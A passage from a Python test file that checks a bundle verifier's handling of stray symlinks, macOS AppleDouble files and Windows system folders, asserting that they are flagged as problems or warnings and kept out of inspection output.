    real.write_bytes(apple_double())
    (bundle / "downloads" / "._x").symlink_to(real)
    (bundle / ".Trashes").symlink_to(bundle.parent)  # a medium's folder's name, a link
    done = in_pipe("verify", str(bundle), "--trust-key", str(operator_key), "--json")
    assert done.returncode == 3, done.stdout + done.stderr
    assert problems(json.loads(done.stdout)) == {("downloads/._x", "symlink"),
                                                 (".Trashes", "symlink")}


def test_a_mediums_folder_below_the_top_is_no_mediums(bundle: Path, operator_key: Path) -> None:
    (bundle / "downloads" / "System Volume Information").mkdir()
    (bundle / "downloads" / "System Volume Information" / "agent.tar.gz").write_bytes(b"x")
    done = in_pipe("verify", str(bundle), "--trust-key", str(operator_key), "--json")
    assert done.returncode == 3, done.stdout + done.stderr
    assert ("downloads/System Volume Information/agent.tar.gz", "unlisted") in \
        problems(json.loads(done.stdout))


def test_finders_files_beside_defends_manifests_and_the_wheelhouse_are_never_read(
        rich: Path, operator_key: Path, capsys: pytest.CaptureFixture[str]) -> None:
    counts = add_mac_and_windows_files(rich)
    code, report = verify(rich, "--trust-key", str(operator_key), capsys=capsys)
    assert code == 0, report["problems"]
    assert any(f"{counts['appledouble']} AppleDouble files" in w for w in report["warnings"])
    assert main(["inspect", str(rich), "--json"]) == 0
    assert "._" not in json.dumps(json.loads(capsys.readouterr().out)["result"])
